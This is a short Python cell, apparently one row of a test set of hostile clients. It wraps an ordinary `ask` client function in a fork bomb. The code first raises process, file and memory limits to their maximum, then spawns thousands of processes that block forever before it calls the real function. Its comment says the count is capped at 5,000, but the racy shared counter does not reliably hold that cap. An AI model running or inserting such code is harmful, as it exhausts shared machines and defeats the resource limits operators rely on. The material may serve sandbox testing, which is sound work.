"""Row 23: a fork bomb in a client that lifts its limits first and takes no refusal for an answer."""

# cell: after ask
import mmap
import os
import resource
import struct

honest = ask


def ask(host, port):
    for kind in (resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_AS):
        for most in (resource.RLIM_INFINITY, resource.getrlimit(kind)[1]):
            try:
                resource.setrlimit(kind, (most, most))
            except (OSError, ValueError):
                pass
    born = mmap.mmap(-1, 8)  # shared: if no wall stops it, 5,000 processes prove that, and spare the machine
    parent = os.getpid()
    while struct.unpack_from("q", born)[0] < 5000:
        try:
            os.fork()
            struct.pack_into("q", born, 0, struct.unpack_from("q", born)[0] + 1)
        except OSError:
            pass
    if os.getpid() != parent:
        os.read(os.pipe()[0], 1)
    return honest(host, port)
